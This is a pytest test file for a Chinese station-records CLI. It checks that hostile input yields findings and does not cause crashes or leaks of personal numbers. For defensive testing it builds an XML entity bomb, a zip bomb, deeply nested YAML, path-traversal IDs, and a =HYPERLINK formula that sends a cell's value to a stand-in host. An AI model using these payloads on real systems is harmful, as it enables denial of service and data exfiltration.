"""Hostile input: whatever the bytes, a finding at the file (or a plain message), never a crash."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from yjstation.loading.loader import MAX_DEPTH, load_bytes

NESTED = {
    "flow sequences": b"a: " + b"[" * 1_000_000,
    "flow mappings": b"a: " + b"{a: " * 250_000,
    "block sequences on one line": b"a:\n  " + b"- " * 500_000,
    "block mappings by indentation": b"".join(b" " * i + b"k:\n" for i in range(1_400)),
    "flow inside block": b"a:\n" + b"".join(b" " * (2 * i + 2) + b"-\n" for i in range(40)) + b" " * 82 + b"[" * 1000,
}


@pytest.mark.parametrize("name", sorted(NESTED))
def test_deep_nesting_is_refused_before_it_is_composed(name: str, tmp_path: Path) -> None:
    # in a child process: libyaml's composer overflows the C stack on such files (a segfault, not an
    # exception), and the parent must see the finding, not the crash
    (tmp_path / "x.yaml").write_bytes(NESTED[name])
    probe = (
        "import sys; from pathlib import Path; from yjstation.loading.loader import load_bytes\n"
        "d = load_bytes(Path(sys.argv[1]).read_bytes(), Path(sys.argv[1]), 'x.yaml')\n"
        "print(d.data is None, *[f'{x.code}@{x.line}' for x in d.diagnostics])"
    )
    done = subprocess.run([sys.executable, "-c", probe, str(tmp_path / "x.yaml")], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    refused, *codes = done.stdout.split()
    assert refused == "True" and len(codes) == 1 and codes[0].startswith("YAML008@"), done.stdout


def test_nesting_at_the_limit_still_loads() -> None:
    text = "a: " + "[" * (MAX_DEPTH - 1) + "1" + "]" * (MAX_DEPTH - 1) + "\n"
    doc = load_bytes(text.encode(), Path("x.yaml"), "x.yaml")
    assert doc.diagnostics == [] and isinstance(doc.data, dict)


# --- hostile files, cells, arguments and consoles, through the CLI ------------------------------------

import io  # noqa: E402
import json  # noqa: E402
import os  # noqa: E402
import zipfile  # noqa: E402

from tests.conftest import AS_OF, CASES, PROJECT, read_yaml, run_cli  # noqa: E402

STATION = "data/stations/pingyuan-mengzhan.yaml"
# the base station's stationmaster (fictional), whose numbers must never leak unmasked
_MASTER = read_yaml(CASES / "base" / STATION.removeprefix("data/"))["stationmaster"]
ID, PHONE = str(_MASTER["id_number"]), str(_MASTER["phone"])
RECORD = "data/operations/2021-03/pingyuan-mengzhan.yaml"


def _edit(root: Path, rel: str, old: str, new: str) -> None:
    path = root / rel
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _no_personal_numbers(text: str) -> None:
    assert ID not in text and PHONE not in text, text


@pytest.mark.parametrize("output", ["text", "json", "github", "sarif"])
def test_an_unquoted_id_number_is_masked_in_every_format(mini_repo: Path, output: str) -> None:
    _edit(mini_repo, STATION, f'id_number: "{ID}"', f"id_number: {ID}")
    _edit(mini_repo, STATION, f'phone: "{PHONE}"', f"phone: {PHONE}")
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", output)
    assert done.exit_code == 1
    assert "SCH002" in done.stdout and "533123" in done.stdout  # the finding is there, masked
    _no_personal_numbers(done.stdout + done.stderr)


def test_a_parse_error_does_not_echo_an_id_number(mini_repo: Path) -> None:
    _edit(mini_repo, STATION, f'id_number: "{ID}"', f'id_number: "{ID}\n  x: [')
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json")
    assert done.exit_code == 1 and "YAML001" in done.stdout
    _no_personal_numbers(done.stdout + done.stderr)


def test_a_number_typed_on_the_command_line_is_not_echoed(mini_repo: Path) -> None:
    for args in (["checklist", "--as-of", ID], ["station", "show", ID], ["checklist", "--township", PHONE]):
        done = run_cli("--root", str(mini_repo), *args)
        assert done.exit_code == 2, args
        _no_personal_numbers(done.stdout + done.stderr)


def test_station_show_gives_only_the_birth_year(mini_repo: Path) -> None:
    done = run_cli("--root", str(mini_repo), "station", "show", "pingyuan-mengzhan")
    assert done.exit_code == 0
    assert "1986-**-**" in done.stdout and "1986-11-16" not in done.stdout and "533123****" in done.stdout


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "loop", "dangling"])
def test_a_data_file_that_is_no_regular_file_is_a_finding(mini_repo: Path, kind: str) -> None:
    path = mini_repo / "data/stations/odd.yaml"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "loop":
        path.symlink_to(path.name)
    else:
        path.symlink_to("nowhere.yaml")
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json", "--no-cache")
    found = [d for d in done.json()["diagnostics"] if d["file"] == "data/stations/odd.yaml"]
    assert done.exit_code == 1 and [d["code"] for d in found] == ["FILE002"], found
    for args in (["checklist", "--as-of", AS_OF], ["fmt", "--check"], ["report", "monthly", "2021-03"]):
        assert run_cli("--root", str(mini_repo), *args).exit_code in (0, 1)


def test_an_unreadable_file_is_reported_by_fmt_and_validate(mini_repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from yjstation.loading import loader

    real = loader.os.open

    def refuse(path: object, *args: object, **kwargs: object) -> int:
        if str(path).endswith("pingyuan-mengzhan.yaml"):
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(loader.os, "open", refuse)
    done = run_cli("--root", str(mini_repo), "fmt")
    assert done.exit_code == 1 and "Permission denied" in done.stderr
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json", "--no-cache")
    assert "FILE002" in {d["code"] for d in done.json()["diagnostics"]}


def test_a_month_folder_out_of_range_is_a_finding_not_a_crash(mini_repo: Path) -> None:
    target = mini_repo / "data/operations/9999-12/pingyuan-mengzhan.yaml"
    target.parent.mkdir(parents=True)
    target.write_text((mini_repo / RECORD).read_text(encoding="utf-8").replace('"2021-03"', '"9999-12"'))
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json")
    codes = {d["code"] for d in done.json()["diagnostics"]}
    assert done.exit_code == 1 and "OP002" in codes and "RULE000" not in codes
    assert run_cli("--root", str(mini_repo), "fees", "--as-of", AS_OF).exit_code in (0, 1)
    assert run_cli("--root", str(mini_repo), "report", "monthly", "2021-03").exit_code == 0


@pytest.mark.parametrize(
    "args",
    [
        ["report", "monthly", "0001-01"],
        ["report", "monthly", "9999-12"],
        ["fees", "--month", "9999-12"],
        ["checklist", "--as-of", "9999-12-31"],
        ["report", "weekly", "9999-W52"],
    ],
)
def test_a_day_or_month_out_of_range_is_a_plain_refusal(mini_repo: Path, args: list[str]) -> None:
    done = run_cli("--root", str(mini_repo), *args)
    assert done.exit_code == 2 and "2999" in done.stderr


def test_the_first_month_handled_has_no_month_before_it_and_needs_none(mini_repo: Path) -> None:
    assert run_cli("--root", str(mini_repo), "report", "monthly", "1900-01").exit_code == 0


def test_a_schema_with_a_dangling_ref_or_no_object_cannot_run(mini_repo: Path) -> None:
    schema = mini_repo / "data/schemas/station.schema.json"
    document = json.loads(schema.read_text(encoding="utf-8"))
    document["properties"]["name"] = {"$ref": "#/$defs/nothere"}
    schema.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF)
    assert done.exit_code == 2 and "#/$defs/nothere" in done.stderr
    schema.write_text("true", encoding="utf-8")
    done = run_cli("--root", str(mini_repo), "checklist")
    assert done.exit_code == 2 and "station.schema.json" in done.stderr


def test_a_township_written_as_a_list_breaks_no_rule_and_no_report(mini_repo: Path) -> None:
    village = read_yaml(mini_repo / STATION)["village"]
    _edit(mini_repo, STATION, "township: pingyuan", "township: [pingyuan]")
    _edit(mini_repo, STATION, f"village: {village}", f"village: [{village}]")
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json")
    assert done.exit_code == 1 and "RULE000" not in done.stdout
    for args in (["report", "monthly", "2021-03"], ["checklist"], ["station", "list"], ["fees"]):
        assert run_cli("--root", str(mini_repo), *args).exit_code in (0, 1), args


@pytest.mark.parametrize(
    "command",
    [["validate", "--as-of", AS_OF], ["station", "show", "pingyuan-mengzhan"], ["checklist", "--as-of", AS_OF]],
)
def test_a_gbk_console_gets_replacements_not_a_crash(mini_repo: Path, command: list[str]) -> None:
    env = {**os.environ, "PYTHONIOENCODING": "gbk", "PYTHONPATH": str(PROJECT)}
    done = subprocess.run(
        [sys.executable, "-m", "yjstation", "--root", str(mini_repo), *command], capture_output=True, env=env
    )
    assert done.returncode == 0, done.stderr.decode("gbk", "replace")
    assert b"Traceback" not in done.stderr and "站".encode("gbk") in done.stdout


def test_station_ids_from_the_command_line_stay_inside_data(mini_repo: Path) -> None:
    before = sorted(p for p in mini_repo.parent.rglob("*") if p.is_file())
    options = ["--level", "village", "--township", "pingyuan", "--village", "允燕村", "--host-type", "village_store",
               "--host-name", "店", "--area", "25", "--stationmaster", "张三", "--id-number", "533123198805120011",
               "--phone", "13800000000", "--date", "2021-12-01"]  # fmt: skip
    for sid in ("../../x", "/tmp/x", "a/b", "X"):
        done = run_cli("--root", str(mini_repo), "station", "new", "--id", sid, *options)
        assert done.exit_code == 2 and "--id" in done.stderr, sid
    for args in (["station", "set", "../../x", "name=x"], ["station", "show", "../x"], ["render", "agreement", "../x"]):
        assert run_cli("--root", str(mini_repo), *args).exit_code == 2
    assert sorted(p for p in mini_repo.parent.rglob("*") if p.is_file() and ".yjstation-cache" not in p.parts) == [
        p for p in before if ".yjstation-cache" not in p.parts
    ]


def _roster(root: Path, tmp_path: Path) -> Path:
    target = tmp_path / "roster.xlsx"
    assert run_cli("--root", str(root), "export", "roster", "--out", str(target), "--as-of", AS_OF).exit_code == 0
    return target


def test_text_that_looks_like_a_formula_is_exported_as_text(mini_repo: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    host = '=HYPERLINK("http://example.invalid/"&M2,"点击")'
    done = run_cli("--root", str(mini_repo), "station", "set", "pingyuan-mengzhan", f"host.name={host}")
    assert done.exit_code == 0, done.stderr
    sheet = load_workbook(_roster(mini_repo, tmp_path)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == host]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    csv = tmp_path / "roster.csv"
    run_cli("--root", str(mini_repo), "export", "roster", "--format", "csv", "--out", str(csv), "--as-of", AS_OF)
    fields = [field for line in csv.read_text(encoding="utf-8-sig").splitlines() for field in line.split(",")]
    assert not [f for f in fields if f.lstrip('"').startswith(("=", "+", "@"))], fields


def test_formulas_in_an_imported_sheet_are_refused_by_cell(mini_repo: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = _roster(mini_repo, tmp_path)
    book = load_workbook(path)
    book.worksheets[0]["G2"] = "=1+1"
    book.save(path)
    done = run_cli("--root", str(mini_repo), "import", "roster", str(path), "--apply")
    assert done.exit_code == 1 and "!G2" in done.stderr and "公式" in done.stderr


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_bombs_and_junk_are_refused_plainly(mini_repo: Path, tmp_path: Path) -> None:
    good = _roster(mini_repo, tmp_path).read_bytes()
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml_bomb = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{lol}]><worksheet><sheetData>&l9;</sheetData></worksheet>'
    )
    files = {
        "junk": os.urandom(2000),
        "xml-bomb": _zip({**parts, "xl/worksheets/sheet1.xml": xml_bomb.encode()}),
        "zip-bomb": _zip({**parts, "xl/worksheets/sheet1.xml": b" " * (120 * 1024 * 1024)}),
        "truncated": good[: len(good) // 2],
    }
    for name, data in files.items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(data)
        done = run_cli("--root", str(mini_repo), "import", "roster", str(path))
        assert done.exit_code == 2 and done.stderr.startswith("yjstation"), (name, done.stderr)


def test_output_folder_and_template_errors_write_nothing(mini_repo: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    for args in (
        ["report", "monthly", "2021-03", "--format", "md", "--out-dir", str(blocker / "sub")],
        ["export", "roster", "--out", str(blocker / "roster.xlsx")],
        ["render", "agreement", "pingyuan-mengzhan", "--out-dir", str(blocker / "sub")],
    ):
        done = run_cli("--root", str(mini_repo), *args)
        assert done.exit_code == 2 and str(blocker) in done.stderr, args
    (mini_repo / "templates/report-monthly.md.j2").write_text("{{ nothere.x }}\n", encoding="utf-8")
    (mini_repo / "templates/fees.md.j2").write_text("{% if %}\n", encoding="utf-8")
    out = tmp_path / "reports"
    done = run_cli("--root", str(mini_repo), "report", "monthly", "2021-03", "--format", "md", "--out-dir", str(out))
    assert done.exit_code == 2 and "report-monthly.md.j2:1" in done.stderr and not out.exists()
    done = run_cli("--root", str(mini_repo), "fees", "--format", "md")
    assert done.exit_code == 2 and "fees.md.j2" in done.stderr


def test_a_full_disk_leaves_no_report_behind(mini_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from yjstation.reports import output

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output.os, "replace", full)
    out = tmp_path / "reports"
    done = run_cli("--root", str(mini_repo), "report", "monthly", "2021-03", "--format", "md", "--out-dir", str(out))
    assert done.exit_code == 2 and "No space left" in done.stderr
    assert list(out.iterdir()) == []


def test_a_root_given_twice_counts_once(mini_repo: Path) -> None:
    once = run_cli("report", "monthly", "2021-03", "--root", str(mini_repo), "--format", "json").json()
    twice = run_cli(
        "report", "monthly", "2021-03", "--root", str(mini_repo), "--root", f"{mini_repo}/", "--format", "json"
    ).json()
    assert len(twice["counties"]) == 1 and twice["total"] == once["total"]


def test_fmt_keeps_a_leading_zero_and_refuses_to_lose_a_comment(mini_repo: Path) -> None:
    _edit(mini_repo, "data/county.yaml", 'complaint_phone: "0692-8881235"', "complaint_phone: 06928881235")
    assert run_cli("--root", str(mini_repo), "fmt", str(mini_repo / "data/county.yaml")).exit_code == 0
    assert 'complaint_phone: "06928881235"' in (mini_repo / "data/county.yaml").read_text(encoding="utf-8")
    _edit(mini_repo, STATION, "area_m2: 26,", "area_m2: 26, # 实测\n  ")
    before = (mini_repo / STATION).read_bytes()
    done = run_cli("--root", str(mini_repo), "fmt", str(mini_repo / STATION))
    assert done.exit_code == 1 and "FMT002" in done.stderr and "实测" in done.stderr
    done = run_cli("--root", str(mini_repo), "station", "set", "pingyuan-mengzhan", "site.area_m2=27")
    assert done.exit_code == 2 and "实测" in done.stderr
    assert (mini_repo / STATION).read_bytes() == before


def test_fees_never_print_minus_zero(mini_repo: Path) -> None:
    _edit(mini_repo, RECORD, "fees: 622.00", "fees: -0.00")
    for output in ("text", "md", "json"):
        done = run_cli("--root", str(mini_repo), "fees", "--month", "2021-03", "--as-of", AS_OF, "--format", output)
        assert "-0.00" not in done.stdout, output


def test_a_leftover_temporary_file_is_reported(mini_repo: Path) -> None:
    (mini_repo / "data/stations/.pingyuan-mengzhan.yaml.k3j2.tmp").write_text(f'id_number: "{ID}"\n')
    done = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json")
    found = [d for d in done.json()["diagnostics"] if d["code"] == "FILE003"]
    assert done.exit_code == 1 and [d["file"] for d in found] == ["data/stations/.pingyuan-mengzhan.yaml.k3j2.tmp"]


def test_init_ignores_temporary_files(tmp_path: Path) -> None:
    assert run_cli("init", str(tmp_path / "c"), "--county", "陇川县", "--division-code", "533124").exit_code == 0
    assert ".*.tmp" in (tmp_path / "c/.gitignore").read_text(encoding="utf-8").splitlines()


def test_english_counts_agree(mini_repo: Path) -> None:
    # a fee to the tenth of a fen, kept under the posted price so that it is the record's only error
    _edit(mini_repo, RECORD, "fees: 14.00", "fees: 13.995")
    found = run_cli("--root", str(mini_repo), "validate", "--as-of", AS_OF, "--format", "json", str(mini_repo / RECORD))
    severities = [d["severity"] for d in found.json()["diagnostics"] if d["file"] == RECORD]
    assert severities == ["error"], found.stdout
    done = run_cli("--lang", "en", "--root", str(mini_repo), "validate", "--as-of", AS_OF, str(mini_repo / RECORD))
    assert "checked 1 file (" in done.stdout and ", 1 error, 0 warnings" in done.stdout


def test_case_files_of_hostile_data_exist() -> None:
    # the data cases live in tests/cases/invalid (run by test_cases.py); these names are the issue's
    names = {"money-1e999", "money-three-decimals", "orders-with-unit", "area-nan", "python-object-tag",
             "yaml-1.3-directive", "township-as-list", "date-year-9999", "date-with-slashes"}  # fmt: skip
    assert names <= {p.stem for p in (CASES / "invalid").glob("*.yaml")}


# --- further hostile input of these kinds: random structures and arguments through the commands ---------

from decimal import Decimal  # noqa: E402

import yaml as pyyaml  # noqa: E402
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

HOSTILE_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.sampled_from(
        [
            ID,
            int(ID),
            PHONE,
            int(PHONE),
            "1e999",
            "-0.00",
            "9999-12-31",
            "0001-01-01",
            "2022/1/5",
            "=1+1",
            "平原镇",
            "",
            "nan",
            "200单",
            "５０",
            "¥6000",
            "8，120.50",
            "x" * 200,
        ]
    ),
    st.decimals(allow_nan=False, allow_infinity=False, places=3, min_value=-(10**6), max_value=10**6),
    st.text(max_size=12),
)
HOSTILE = st.recursive(
    HOSTILE_SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)  # fmt: skip
COMMANDS = (
    ["validate", "--as-of", AS_OF, "--format", "json"],
    ["checklist", "--as-of", AS_OF],
    ["fees", "--as-of", AS_OF, "--format", "json"],
    ["report", "monthly", "2021-03", "--format", "json"],
    ["station", "show", "pingyuan-mengzhan"],
    ["station", "list"],
)


def _paths(node: object, prefix: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


def _put(node: object, path: tuple[object, ...], value: object) -> object:
    if not path:
        return value
    head, *rest = path
    copy = dict(node) if isinstance(node, dict) else list(node)  # type: ignore[call-overload]
    copy[head] = _put(copy[head], tuple(rest), value)  # type: ignore[index]
    return copy


def _plain(value: object) -> object:
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, dict):
        return {str(k): _plain(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_plain(v) for v in value]
    return value


@pytest.fixture(scope="module")
def fuzz_repo(bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    import shutil

    from tests.conftest import copy_repository

    root = copy_repository(bundle, tmp_path_factory.mktemp("fuzz") / "repo", stations=[])
    for path in sorted((CASES / "base").rglob("*.yaml")):
        dest = root / "data" / path.relative_to(CASES / "base")
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(path, dest)
    return root


@given(data=st.data())
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_random_structures_never_crash_or_leak(fuzz_repo: Path, data: st.DataObject) -> None:
    rel = data.draw(st.sampled_from([STATION, RECORD]))
    path = fuzz_repo / rel
    original = path.read_bytes()
    document = load_bytes(original, path, rel).data
    try:
        for _ in range(data.draw(st.integers(1, 3))):
            where = data.draw(st.sampled_from(_paths(document)[1:]))
            document = _put(document, where, data.draw(HOSTILE))
        path.write_text(pyyaml.safe_dump(_plain(document), allow_unicode=True), encoding="utf-8")
        for command in COMMANDS:
            done = run_cli("--root", str(fuzz_repo), *command)  # an internal error raises here
            assert done.exit_code in (0, 1, 2), command
            _no_personal_numbers(done.stdout + done.stderr)
            assert "RULE000" not in done.stdout, (command, done.stdout)
    finally:
        path.write_bytes(original)


@given(value=st.one_of(st.text(max_size=30), HOSTILE_SCALARS.map(str)))
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_random_arguments_are_refused_plainly(fuzz_repo: Path, value: str) -> None:
    if value.startswith("-") or "\x00" in value:
        value = "x" + value.replace("\x00", "")
    for command in (
        ["checklist", "--township", value],
        ["checklist", value],
        ["fees", "--month", value],
        ["report", "monthly", value],
        ["station", "show", value],
        ["checklist", "--as-of", value],
    ):
        done = run_cli("--root", str(fuzz_repo), *command)
        assert done.exit_code in (0, 1, 2), command
        _no_personal_numbers(done.stdout + done.stderr)
